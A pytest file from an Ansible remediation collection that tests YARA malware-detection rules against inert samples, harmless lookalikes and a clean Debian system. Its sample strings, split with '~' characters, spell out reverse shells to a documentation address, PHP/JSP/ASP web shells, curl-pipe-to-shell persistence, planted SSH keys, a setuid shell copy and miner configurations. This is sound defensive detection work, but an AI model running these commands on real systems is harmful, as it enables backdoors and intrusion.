# Copyright: vmward contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The rules that come with the role: each finds its inert sample, and none finds anything on a clean Debian."""

from __future__ import annotations

import os
import re
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.vmward.remediation.plugins.module_utils._scan.engines import WINDOW, Content, Hit, Yara, eicar
from ansible_collections.vmward.remediation.plugins.module_utils._scan.job import read_rules

ROOT = Path(__file__).resolve().parents[3]
RULES = ROOT / "roles/scan/files/rules"
LARGEST = 1 << 20

# Cut up by `~`, so that no scanner takes this file for what it is about. Addresses and names are of documentation.
KEY = "ssh-~ed25519 AAAA" + "C3NzaC1lZDI1NTE5" * 4
SAMPLES = {
    "eicar_test_file": [eicar().decode(), eicar().decode() + "\r\n"],
    "vmward_inert_sample": ["a VMWARD-~INERT-SAMPLE b"],
    "reverse_shell_one_liner": [
        "ba~sh -i >& /dev/~tcp/192.0.2.1/4444 0>&1",
        "exec 5<>/dev/~tcp/192.0.2.1/4444; cat <&5 | sh",
        "rm -f /tmp/f; mkfifo /tmp/~f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
        "n~c -e /bin/~sh 192.0.2.1 4444",
        "s=socket.~socket(socket.AF_INET,socket.SOCK_STREAM);s.con~nect(('192.0.2.1',4444));os.du~p2(s.fileno(),0)",
        'perl -e \'use So~cket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'',
        'php -r \'$sock=fsock~open("192.0.2.1",4444);ex~ec("sh <&3 >&3 2>&3");\'',
        "so~cat exec:'ba~sh -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444",
    ],
    "crypto_miner_configuration": [
        '{"pools": [{"url": "stratum~+tcp://pool.example:3333"}], "donate~-level": 1}',
        '{"random~x": {"mode": "auto"}, "algo": "r~x/0", "url": "stratum~+tls://pool.example:443"}',
        "miner -o stratum~+ssl://pool.example:443 --coin~=monero",
    ],
    "crypto_miner_program": [
        "\x7fELF ... stratum~+tcp:// ... donate~-level ... XM~Rig/6 ... nice~hash",
        "MZ ... stratum~+ssl:// ... mining.sub~scribe ... cpu-max-~threads-hint",
    ],
    "php_web_shell": [
        "<?php @ev~al($_PO~ST['x']); ?>",
        "<?php sys~tem(base64_~decode($_REQ~UEST['c'])); ?>",
        "<?=$_GE~T['f']($_PO~ST['a'])?>",
    ],
    "jsp_web_shell": [
        '<% Runtime.getRuntime().ex~ec(request.getPara~meter("c")); %>',
        '<% new Process~Builder("sh", "-c", request.getPara~meter("c")).start(); %>',
    ],
    "asp_web_shell": [
        '<%@ Page Language="Jscript"%><%ev~al(Request.It~em["x"],"unsafe");%>',
        '<%exec~ute request("x")%>',
    ],
    "preloaded_library_from_writable_place": [
        "/tmp/~.x/libprocesshider.so\n",
        "/usr/lib/libeatmydata.so\n/tmp/~.x/hider.so\n",
        "# local\n/usr/lib/a.so:/dev/shm/~a.so.1 # mine\n",
        'LD_PRE~LOAD="/usr/lib/a.so:/tmp/~a.so" run',
        "#!/bin/sh\nexport LD_PRE~LOAD=/dev/shm/~a.so\n",
    ],
    "download_and_run_persistence": [
        "SHELL=/bin/sh\n*/5 * * * * root cu~rl -fsSL https://x.example/a.sh | ba~sh\n",
        "@reboot wg~et -q -O- http://x.example/a |sh",
        "[Service]\nExec~Start=/bin/sh -c 'cu~rl -s http://x.example/a | sh'\n",
        "cu~rl -s http://192.0.2.1:8080/a | sudo ba~sh",
    ],
    "started_from_writable_place": [
        "[Service]\nExec~Start=/dev/~shm/.x/agent --quiet\n",
        "# m h dom mon dow\n0 3 * * 1-5 root /var/tmp/~updater\n",
        "#!/bin/sh -e\n# rc.local\nno~hup /tmp/~.ice/agent -d >/dev/null 2>/dev/null &\nexit 0\n",
    ],
    "key_with_command": [f'command="cu~rl -s http://192.0.2.1/a -o /tmp/~a; sh /tmp/a",no-pty {KEY} admin@example'],
    "key_planted_by_script": [f"umask 077; echo '{KEY} x@example' >> /root/.ssh/authorized~_keys"],
    "setuid_shell": ["cp /bin/~bash /var/tmp/.sh && chm~od 4755 /var/tmp/.sh"],
}
HINTS = {
    "download_and_run_persistence",
    "started_from_writable_place",
    "key_with_command",
    "key_planted_by_script",
    "setuid_shell",
}

HARMLESS = [
    "*/5 * * * * root curl -fsS https://health.example/ping >/dev/null\n",
    "[Service]\nExecStart=/usr/bin/agent --spool /tmp/agent\nPrivateTmp=true\n",
    "#!/bin/sh\nlog=/tmp/log.$$\nmake >$log 2>&1 &\n",
    'command="/usr/bin/rrsync -ro /srv/backup",restrict ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA backup@example\n',
    "<?php echo htmlspecialchars($_GET['name']); system('uptime'); ?>",
    "The connection /dev/tcp/host/port of bash is described in its manual.\n",
    "LD_PRELOAD=/usr/lib/libeatmydata.so\n",
    "# as shown: cc -shared -o\n/usr/bin/cc -o /tmp/a.so a.c\n",
    "/usr/lib/debug/tmp/a.so\n",
    "/usr/lib/a.so\n" * 20 + "/tmp/a.so\n",
]


@pytest.fixture(scope="module")
def engine() -> Yara:
    return Yara(list(read_rules([str(RULES)])), 60)


def look(engine: Yara, data: bytes) -> list[Hit]:
    hits, gap = engine.scan(Content(len(data), lambda at, length: data[at : at + length], max(WINDOW, len(data))))
    assert gap == ""
    return hits


def whole(sample: str) -> bytes:
    return sample.replace("~", "").encode("latin-1")


@pytest.fixture(scope="module")
def rules() -> Any:
    import yara_x

    compiler = yara_x.Compiler()
    for file in read_rules([str(RULES)]):
        compiler.add_source(file.text)
    return compiler.build()


def test_every_pattern_of_every_rule_has_a_sample(rules: Any) -> None:
    matched = {
        (rule.identifier, pattern.identifier)
        for texts in SAMPLES.values()
        for text in texts
        for rule in rules.scan(whole(text)).matching_rules
        for pattern in rule.patterns
        if pattern.matches
    }
    patterns = {
        (name, pattern)
        for file in read_rules([str(RULES)])
        for name, body in re.findall(r"(?ms)^rule (\w+)\s*\{(.*?)^\}", file.text)
        for pattern in re.findall(r"(?m)^ +(\$\w+) = ", body)
    }
    assert len({name for name, _pattern in patterns}) == len(SAMPLES)
    assert matched == patterns


@pytest.mark.parametrize(("rule", "sample"), [(rule, sample) for rule, texts in SAMPLES.items() for sample in texts])
def test_a_rule_finds_its_sample_and_says_how_sure_it_is(engine: Yara, rule: str, sample: str) -> None:
    hits = look(engine, whole(sample))
    assert {hit.rule: hit.is_hint for hit in hits} == {rule: rule in HINTS}


@pytest.mark.parametrize("text", HARMLESS)
def test_what_looks_alike_is_no_match(engine: Yara, text: str) -> None:
    assert look(engine, text.encode()) == []


def test_each_rule_says_what_it_knows_and_from_where(rules: Any) -> None:
    for rule in rules:
        meta = dict(rule.metadata)
        assert meta["severity"] == ("suspicious" if rule.identifier in HINTS else "malicious")
        assert meta["description"]
        assert meta["reference"]


def test_no_file_of_this_collection_matches(engine: Yara) -> None:
    for part in ("plugins", "roles", "playbooks", "tests", "docs"):
        for path in sorted((ROOT / part).rglob("*")):
            if path.is_file() and path.suffix != ".pyc":
                assert look(engine, path.read_bytes()) == [], path


def packaged() -> Iterator[Path]:
    """Regular files that Debian packages brought, the smaller ones."""
    for listing in sorted(Path("/var/lib/dpkg/info").glob("*.md5sums")):
        for line in listing.read_text().splitlines():
            path = Path("/") / line[34:]
            if 0 < size(path) <= LARGEST:
                yield path


def programs() -> Iterator[Path]:
    """What is larger: interpreters, compilers and libraries hold all sorts of words."""
    for path in below("/usr/bin", "/usr/lib"):
        if size(path) > LARGEST:
            with path.open("rb") as file:
                if file.read(4) == b"\x7fELF":
                    yield path


def scripts() -> Iterator[Path]:
    """Settings, and programs as text."""
    yield from below("/etc", "/usr/lib/python3", *map(str, sorted(Path("/usr/share").glob("perl*"))))


def below(*roots: str) -> Iterator[Path]:
    """In an order that is the same each time."""
    for root in roots:
        for place, directories, names in os.walk(root):
            directories.sort()
            yield from (Path(place, name) for name in sorted(names))


def size(path: Path) -> int:
    """Of a regular file that can be read; what was left out when a package was installed has none."""
    try:
        status = os.lstat(path)
    except OSError:
        return 0
    return status.st_size if stat.S_ISREG(status.st_mode) and os.access(path, os.R_OK) else 0


@pytest.mark.parametrize(
    ("files", "enough", "least"), [(packaged, 400 << 20, 1000), (programs, 300 << 20, 10), (scripts, 100 << 20, 500)]
)
def test_nothing_on_a_clean_system_matches(
    engine: Yara, files: Callable[[], Iterator[Path]], enough: int, least: int
) -> None:
    """What is installed here is the clean system, whatever its kind. So many bytes of it are enough."""
    read = count = 0
    found = []
    for path in files():
        if not size(path):
            continue
        data = path.read_bytes()
        found += [(str(path), hit.rule) for hit in look(engine, data)]
        read, count = read + len(data), count + 1
        if read > enough:
            break
    if count < least:
        pytest.skip("this system was not made of Debian packages")
    assert found == []
